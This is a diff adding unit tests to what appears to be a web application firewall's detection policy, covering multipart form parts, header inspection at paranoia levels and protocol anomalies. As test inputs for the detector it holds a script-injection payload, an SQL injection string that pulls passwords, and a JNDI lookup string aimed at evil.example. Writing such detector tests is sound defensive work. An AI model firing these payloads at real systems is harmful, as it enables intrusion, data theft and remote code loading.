@@ -107,6 +107,42 @@ describe('detect policy', () => {
     assert.equal(xml.verdict.kind === 'deny' && xml.verdict.rule, 'xxe.external-entity');
   });
 
+  test('reads multipart forms part by part: a one-field form passes, an attack in a part is located', () => {
+    const handlers = create();
+    const type = { 'content-type': 'multipart/form-data; boundary=X' };
+    const part = (name: string, value: string) =>
+      `--X\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
+    const plain = run(handlers, { url: '/u', headers: type, body: `${part('name', 'John')}--X--\r\n` });
+    assert.equal(plain.verdict.kind, 'continue');
+    assert.deepEqual(plain.events, []);
+    const attack = run(handlers, {
+      url: '/u',
+      headers: type,
+      body: `${part('bio', '<script>alert(1)</script>')}--X--\r\n`,
+    });
+    assert.equal(attack.verdict.kind === 'deny' && attack.verdict.location, 'body.bio');
+  });
+
+  test('from paranoia 2 inspects every header but protocol metadata; protocol anomalies flag at 1, deny at 2', () => {
+    const custom = {
+      'x-note': "1' UNION SELECT password FROM users--",
+      accept: "text/html;q=0.9,*/*;q=0.8'--",
+    };
+    assert.equal(run(create(), { url: '/a', headers: custom }).verdict.kind, 'continue');
+    const p2 = run(create({ paranoia: 2 }), { url: '/a', headers: custom });
+    assert.equal(p2.verdict.kind === 'deny' && p2.verdict.location, 'header.x-note');
+    const benign = { accept: 'text/html,*/*;q=0.8', 'sec-ch-ua': '"Chromium";v="131", "Not_A Brand";v="24"' };
+    assert.equal(run(create({ paranoia: 2 }), { url: '/a', headers: benign }).verdict.kind, 'continue');
+    const utf7 = { 'content-type': 'text/plain; charset=utf-7' };
+    const flagged = run(create(), { url: '/a', headers: utf7, body: 'hello' });
+    assert.equal(flagged.verdict.kind, 'continue');
+    assert.ok(flagged.events.some((e) => e.rule === 'protocol.charset'));
+    assert.equal(
+      run(create({ paranoia: 2 }), { url: '/a', headers: utf7, body: 'hello' }).verdict.kind,
+      'deny',
+    );
+  });
+
   test('inspects selected headers, cookies and the raw path', () => {
     const handlers = create();
     const ua = run(handlers, { url: '/', headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } });
